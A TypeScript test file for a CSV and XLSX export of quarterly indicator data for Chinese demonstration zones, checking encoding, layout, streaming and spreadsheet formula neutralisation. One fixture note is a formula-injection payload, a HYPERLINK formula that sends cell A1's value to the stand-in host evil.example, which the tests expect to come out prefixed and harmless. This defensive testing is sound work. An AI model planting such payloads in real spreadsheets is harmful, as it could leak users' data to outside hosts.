import { createHash } from "node:crypto";
import { Writable } from "node:stream";
import { type DatabaseHandle, rowsOf } from "@zones/db/client";
import { countObservationRows, streamObservationRows } from "@zones/db/exports";
import { createTestDatabase, testEngine } from "@zones/db/testing";
import { BUILT_IN_ZONES } from "@zones/domain";
import { parse } from "csv-parse/sync";
import { sql } from "drizzle-orm";
import ExcelJS from "exceljs";
import iconv from "iconv-lite";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import type { TExportFilters } from "./filters";
import { exportChunks, exportRowBatches, prepareExportDownload, runExport } from "./run";
import {
  BARE_CR_NOTE,
  CR_FIRST_NOTE,
  expectedRows,
  filters,
  INJECTION_NOTE,
  loadFixture,
  QUOTED_NOTE,
  SPACED_NOTE,
} from "./test-fixture";

const ZH_HEADER = [
  "示范区代码",
  "示范区",
  "指标代码",
  "指标",
  "单位",
  "季度",
  "数值",
  "状态",
  "修订次数",
  "数据性质",
  "上报说明",
];
const EN_HEADER = [
  "Zone code",
  "Zone",
  "Indicator code",
  "Indicator",
  "Unit",
  "Quarter",
  "Value",
  "Status",
  "Revisions",
  "Figure",
  "Note",
];
const STATUS = {
  zh: { approved: "已审核", submitted: "待审核" },
  en: { approved: "Approved", submitted: "Submitted" },
};
const KIND = {
  zh: { preliminary: "初步核算", final: "最终核实" },
  en: { preliminary: "Preliminary", final: "Final" },
};
const BOM = [0xef, 0xbb, 0xbf];

async function loadWorkbook(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(bytes).buffer);
  return workbook;
}

async function collect(chunks: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const chunk of chunks) parts.push(Buffer.from(chunk));
  return Buffer.concat(parts);
}

function exportBytes(
  handle: DatabaseHandle,
  scope: TExportFilters,
  format: "csv" | "xlsx",
  batchSize?: number,
) {
  return collect(
    exportChunks(
      exportRowBatches(handle.db, scope, batchSize ? { batchSize } : {}),
      scope,
      format,
      BUILT_IN_ZONES,
    ),
  );
}

/** Independent formula neutralisation for the expectations: text starting with = + - @ tab CR gets a `'`. */
function safe(text: string): string {
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

/** A memory sink. */
function memorySink(): { sink: Writable; bytes: () => Buffer } {
  const parts: Buffer[] = [];
  return {
    sink: new Writable({
      write(chunk, _encoding, callback) {
        parts.push(Buffer.from(chunk));
        callback();
      },
    }),
    bytes: () => Buffer.concat(parts),
  };
}

function parseCsv(text: string): string[][] {
  return parse(text, { bom: true, record_delimiter: "\r\n", relax_column_count: false });
}

describe(`exports on ${testEngine()}`, () => {
  let handle: DatabaseHandle;
  beforeAll(async () => {
    handle = await createTestDatabase();
    await loadFixture(handle);
  });
  afterAll(async () => {
    await handle?.close();
  });

  describe("CSV, long layout", () => {
    it("parses back to exactly the database's values, Chinese intact, with a BOM and CRLF", async () => {
      const scope = filters();
      const bytes = await exportBytes(handle, scope, "csv");
      expect([...bytes.subarray(0, 3)]).toEqual(BOM);
      const text = bytes.toString("utf8");
      expect(text.slice(1, text.indexOf("\r\n"))).toBe(ZH_HEADER.join(","));
      expect(text.endsWith("\r\n")).toBe(true);
      // Outside quoted notes, every line break is CRLF: strip the quoted fields and look for a bare LF.
      expect(text.replace(/"(?:[^"]|"")*"/g, "").replace(/\r\n/g, "")).not.toMatch(/[\r\n]/);

      const [header, ...records] = parseCsv(text);
      expect(header).toEqual(ZH_HEADER);
      const expected = await expectedRows(handle, scope);
      expect(expected.length).toBeGreaterThan(5);
      expect(records).toEqual(
        expected.map((row) => [
          row.zoneCode,
          row.zoneNameZh,
          row.indicatorCode,
          row.indicatorNameZh,
          row.unitZh,
          row.quarter,
          row.value,
          STATUS.zh[row.status as "approved"],
          String(row.revision),
          KIND.zh[row.revisionKind],
          row.note === null ? "" : safe(row.note),
        ]),
      );
      expect(text).toContain("湖北黄石");
      expect(text).toContain("地区生产总值");
      // Only approved by default: nothing of submitted, returned or draft submissions.
      expect(records.every((record) => record[7] === "已审核")).toBe(true);
      expect(text).not.toContain("draft must never leave");
      expect(text).not.toContain("returned");
    });

    it("writes English headers and names, and submitted data when asked", async () => {
      const scope = filters({ headerLanguage: "en", statuses: ["approved", "submitted"] });
      const text = (await exportBytes(handle, scope, "csv")).toString("utf8");
      const [header, ...records] = parseCsv(text);
      expect(header).toEqual(EN_HEADER);
      const expected = await expectedRows(handle, scope);
      expect(records).toEqual(
        expected.map((row) => [
          row.zoneCode,
          row.zoneNameEn,
          row.indicatorCode,
          row.indicatorNameEn,
          row.unitEn,
          row.quarter,
          row.value,
          STATUS.en[row.status as "approved"],
          String(row.revision),
          KIND.en[row.revisionKind],
          row.note === null ? "" : safe(row.note),
        ]),
      );
      expect(records.some((record) => record[7] === "Submitted")).toBe(true);
      expect(records.map((record) => record[0])).toContain("AH-TL");
      expect(text).not.toContain("draft must never leave");
    });

    it("neutralises formula text while values stay bare numbers", async () => {
      const text = (await exportBytes(handle, filters(), "csv")).toString("utf8");
      const records = parseCsv(text).slice(1);
      const note = (zone: string, indicator: string, quarter: string) =>
        records.find((r) => r[0] === zone && r[2] === indicator && r[5] === quarter)?.[10];
      expect(note("HB-HS", "gdp", "2025Q1")).toBe(`'${INJECTION_NOTE}`);
      expect(note("HB-HS", "gdp-growth", "2025Q1")).toBe("'-1+2");
      expect(note("SD-ZB", "gdp", "2025Q1")).toBe("'@SUM(A1)");
      expect(note("SD-ZB", "gdp-growth", "2025Q1")).toBe("'\tTab");
      expect(note("SD-ZB", "urban-unemployment", "2025Q1")).toBe("'+86 电话");
      expect(note("HB-HS", "urban-unemployment", "2025Q1")).toBe(QUOTED_NOTE);
      expect(note("HB-HS", "gdp", "2025Q2")).toBe(`'${CR_FIRST_NOTE}`);
      expect(note("HB-HS", "gdp-growth", "2025Q2")).toBe(BARE_CR_NOTE);
      expect(note("HB-HS", "urban-unemployment", "2025Q2")).toBe(SPACED_NOTE);
      // The raw line: -3.5 unquoted and unprefixed, the note quoted by RFC 4180 only where needed.
      expect(text).toContain(",2025Q1,-3.5,已审核,1,最终核实,'-1+2\r\n");
      expect(text).toContain(",2025Q1,1929.50,");
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""点我"")"`);
      // A lone CR is a line break to Excel and WPS: quoted (and, first in a cell, neutralised too).
      expect(text).toContain(`,"${BARE_CR_NOTE}"\r\n`);
      expect(text).toContain(`,"'${CR_FIRST_NOTE}"\r\n`);
      // Spaces belong to the field (RFC 4180): kept, no quotes needed.
      expect(text).toContain(`,${SPACED_NOTE}\r\n`);
      // No cell anywhere starts with a formula character.
      for (const record of records) {
        for (const [index, cell] of record.entries()) {
          if (index !== 6) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
      // Exact values, never through floating point.
      expect(text).toContain(",2025Q3,123456789012.3456,");
      expect(text).toContain(",2025Q1,0.001,");
    });

    it("writes GB18030 that decodes to the same rows, without a BOM", async () => {
      const utf8 = (await exportBytes(handle, filters(), "csv")).toString("utf8");
      const bytes = await exportBytes(handle, filters({ encoding: "gb18030" }), "csv");
      expect([...bytes.subarray(0, 3)]).not.toEqual(BOM);
      // Not UTF-8: "示范区代码" has other bytes in GB18030.
      expect(bytes.subarray(0, 10).equals(Buffer.from("示范区代码", "utf8").subarray(0, 10))).toBe(false);
      const decoded = iconv.decode(bytes, "gb18030");
      expect(decoded).toBe(utf8.slice(1));
      expect(parseCsv(decoded)).toEqual(parseCsv(utf8));
      expect(decoded).toContain("𠮷野家");
    });

    it("streams the same bytes whatever the batch size", async () => {
      const scope = filters({ statuses: ["approved", "submitted"] });
      const whole = await exportBytes(handle, scope, "csv");
      expect((await exportBytes(handle, scope, "csv", 1)).equals(whole)).toBe(true);
      expect((await exportBytes(handle, scope, "csv", 3)).equals(whole)).toBe(true);
    });

    it("writes a header-only file for a selection without data", async () => {
      const scope = filters({ zoneCodes: ["NX-NE"], from: "2020Q1", to: "2020Q4" });
      const { sink, bytes } = memorySink();
      const result = await runExport(handle.db, scope, "csv", sink);
      expect(result.rowCount).toBe(0);
      expect(bytes().toString("utf8")).toBe(`\uFEFF${ZH_HEADER.join(",")}\r\n`);
      expect(result.byteSize).toBe(bytes().length);
    });
  });

  describe("wide layout", () => {
    it("has one column per quarter holding each zone × indicator's values", async () => {
      const scope = filters({
        layout: "wide",
        statuses: ["approved", "submitted"],
        from: "2024Q4",
        to: "2025Q4",
      });
      const text = (await exportBytes(handle, scope, "csv")).toString("utf8");
      const [header, ...records] = parseCsv(text);
      expect(header).toEqual([
        "示范区代码",
        "示范区",
        "指标代码",
        "指标",
        "单位",
        "2024Q4",
        "2025Q1",
        "2025Q2",
        "2025Q3",
        "2025Q4",
      ]);
      const expected = await expectedRows(handle, scope);
      const pairs = [...new Set(expected.map((row) => `${row.zoneCode}|${row.indicatorCode}`))];
      expect(records.map((record) => `${record[0]}|${record[2]}`)).toEqual(pairs);
      for (const record of records) {
        const quarters = header?.slice(5) ?? [];
        const values = quarters.map(
          (quarter) =>
            expected.find(
              (row) =>
                row.zoneCode === record[0] && row.indicatorCode === record[2] && row.quarter === quarter,
            )?.value ?? "",
        );
        expect(record.slice(5)).toEqual(values);
      }
      // Q4 is a draft: its column stays empty.
      expect(records.every((record) => record[9] === "")).toBe(true);
      expect(await countObservationRows(handle.db, scope)).toBe(records.length);
    });

    it("writes the wide layout to XLSX with numeric cells", async () => {
      const scope = filters({ layout: "wide", headerLanguage: "en" });
      const workbook = await loadWorkbook(await exportBytes(handle, scope, "xlsx"));
      const sheet = workbook.getWorksheet("Huangshi");
      expect(sheet?.getRow(1).values).toEqual([
        undefined,
        ...EN_HEADER.slice(0, 5),
        "2025Q1",
        "2025Q2",
        "2025Q3",
        "2025Q4",
      ]);
      const gdp = sheet?.getRow(2);
      expect(gdp?.getCell(3).value).toBe("gdp");
      expect(gdp?.getCell(6).value).toBe(1929.5);
      expect(gdp?.getCell(7).value).toBe(2100.125);
      expect(gdp?.getCell(8).value).toBeNull();
    });
  });

  describe("XLSX", () => {
    it("has one sheet per zone, a bold frozen header, numbers as numeric cells and text as text", async () => {
      const scope = filters({ statuses: ["approved", "submitted"] });
      const workbook = await loadWorkbook(await exportBytes(handle, scope, "xlsx"));
      // Catalogue order; LN-C has no values but still gets its (header-only) sheet.
      expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(["辽宁中部", "淄博", "铜陵", "黄石"]);
      const expected = await expectedRows(handle, scope);
      for (const sheet of workbook.worksheets) {
        expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
        expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
        expect(sheet.getRow(1).values).toEqual([undefined, ...ZH_HEADER]);
        const zoneRows = expected.filter((row) => row.zoneShortNameZh === sheet.name);
        expect(sheet.rowCount - 1).toBe(zoneRows.length);
        zoneRows.forEach((row, index) => {
          const cells = sheet.getRow(index + 2);
          expect(cells.getCell(1).value).toBe(row.zoneCode);
          expect(cells.getCell(6).value).toBe(row.quarter);
          expect(cells.getCell(7).type).toBe(ExcelJS.ValueType.Number);
          expect(cells.getCell(7).value).toBe(Number(row.value));
          expect(cells.getCell(9).value).toBe(row.revision);
          // A line break in a cell is LF, Excel's own.
          expect(cells.getCell(11).value ?? null).toBe(row.note?.replace(/\r\n?/g, "\n") ?? null);
        });
      }
      const note = workbook.getWorksheet("黄石")?.getRow(2).getCell(11);
      expect(note?.value).toBe(INJECTION_NOTE);
      expect(note?.type).toBe(ExcelJS.ValueType.String);
      expect(workbook.getWorksheet("黄石")?.getRow(3).getCell(7).value).toBe(2100.125);
      expect(workbook.getWorksheet("辽宁中部")?.rowCount).toBe(1);
    });

    it("writes a header-only sheet per zone for a selection without data", async () => {
      const scope = filters({ zoneCodes: ["NX-NE", "CQ-M"], headerLanguage: "en" });
      const { sink, bytes } = memorySink();
      const result = await runExport(handle.db, scope, "xlsx", sink);
      expect(result.rowCount).toBe(0);
      const workbook = await loadWorkbook(bytes());
      expect(workbook.worksheets.map((sheet) => [sheet.name, sheet.rowCount])).toEqual([
        ["Chongqing Peri-Metro", 1],
        ["Northeastern Ningxia", 1],
      ]);
    });
  });

  describe("runExport", () => {
    it("counts, streams and measures: rows, bytes, SHA-256 and progress", async () => {
      const scope = filters({ statuses: ["approved", "submitted"] });
      const { sink, bytes } = memorySink();
      const progress: { rowsDone: number; rowsExpected: number }[] = [];
      const result = await runExport(handle.db, scope, "csv", sink, {
        batchSize: 2,
        onProgress: (p) => progress.push(p),
      });
      const expected = await expectedRows(handle, scope);
      expect(result.rowCount).toBe(expected.length);
      expect(result.byteSize).toBe(bytes().length);
      expect(result.checksum).toBe(createHash("sha256").update(bytes()).digest("hex"));
      expect(result.durationMs).toBeGreaterThanOrEqual(0);
      expect(progress[0]).toEqual({ rowsDone: 0, rowsExpected: expected.length });
      expect(progress.at(-1)).toEqual({ rowsDone: expected.length, rowsExpected: expected.length });
      expect(progress.length).toBeGreaterThan(2);
    });

    it("writes to a web WritableStream as well", async () => {
      const parts: Uint8Array[] = [];
      const sink = new WritableStream<Uint8Array>({ write: (chunk) => void parts.push(chunk) });
      const result = await runExport(handle.db, filters(), "xlsx", sink);
      const bytes = Buffer.concat(parts);
      expect(result.byteSize).toBe(bytes.length);
      expect(bytes.subarray(0, 2).toString("latin1")).toBe("PK");
    });

    it("stops reading when the consumer stops, and leaves the database usable", async () => {
      for await (const batch of streamObservationRows(handle.db, filters(), { batchSize: 1 })) {
        expect(batch).toHaveLength(1);
        break;
      }
      const [row] = rowsOf<{ n: number }>(await handle.db.execute(sql`select 1 as n`));
      expect(Number(row?.n)).toBe(1);
    });
  });

  it("prepares a download: first chunk read, file name and content type", async () => {
    const download = await prepareExportDownload(handle.db, filters({ encoding: "gb18030" }), "csv", {
      now: new Date("2026-11-28T10:00:00+08:00"),
    });
    expect(download.contentType).toBe("text/csv; charset=gb18030");
    expect(download.fileName).toMatch(/-gb18030-20261128\.csv$/);
    const bytes = Buffer.from(await new Response(download.body).arrayBuffer());
    expect(parseCsv(iconv.decode(bytes, "gb18030")).length - 1).toBe(download.rowsExpected);
  });
});
